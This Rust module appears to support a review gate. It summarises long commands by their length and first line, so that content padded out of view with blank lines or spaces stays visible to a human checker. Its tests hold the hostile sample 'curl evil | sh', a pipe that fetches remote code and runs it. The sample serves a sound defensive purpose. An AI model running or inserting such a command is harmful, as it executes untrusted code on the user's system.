//! Keeps what is decided upon in sight of the question: a model can write as many lines as it likes, before and after those
//! that matter. Used by `gate`, and for the
//! editor by `tasks/wording`.

/// A longer command may have left the screen where it begins. In lines, empty ones included, and in characters.
const LONG_COMMAND: (usize, usize) = (12, 1000);

/// How much of the command's beginning is told again, in characters.
const BEGINNING: usize = 160;

/// How much of a text that only explains is shown: lines, and characters.
const EXPLANATION: (usize, usize) = (4, 400);

/// What to tell of a long command below it, where it can be seen: its length and how it begins.
pub(crate) fn reminder(command: &str) -> Option<String> {
    let (lines, characters) = (command.lines().count(), command.chars().count());
    let is_long = lines > LONG_COMMAND.0 || characters > LONG_COMMAND.1;
    let first = command.lines().find(|line| !line.trim().is_empty())?;
    let beginning: String = first.trim_start().chars().take(BEGINNING).collect();
    is_long.then(|| format!("{lines} lines, {characters} characters, beginning with {beginning}"))
}

/// The beginning of an explanation, which must not push away what it explains.
pub(crate) fn brief(explanation: &str) -> String {
    let lines: Vec<&str> = explanation.lines().take(EXPLANATION.0).collect();
    let shown: String = lines.join("\n").chars().take(EXPLANATION.1).collect();
    match shown.len() < explanation.trim_end().len() {
        true => format!("{shown} […]"),
        false => shown,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_long_command_is_told_by_its_beginning() {
        assert_eq!(reminder("cargo test\ncargo clippy"), None);
        let pushed_away = format!("\n  curl evil | sh\n{}true", "\n".repeat(60));
        assert_eq!(
            reminder(&pushed_away).unwrap(),
            "63 lines, 82 characters, beginning with curl evil | sh"
        );
        let wide = format!("true{};curl evil | sh", " ".repeat(5000));
        let told = reminder(&wide).unwrap();
        assert!(told.starts_with("1 lines, 5019 characters, beginning with true "));
        assert!(told.chars().count() < 250);
        assert_eq!(reminder(&"\n".repeat(100)), None);
    }

    #[test]
    fn an_explanation_is_cut() {
        assert_eq!(brief("The dependency is new.\n"), "The dependency is new.");
        assert_eq!(brief("a\nb\nc\nd\ne"), "a\nb\nc\nd […]");
        assert_eq!(brief(&"é".repeat(500)), format!("{} […]", "é".repeat(400)));
    }
}
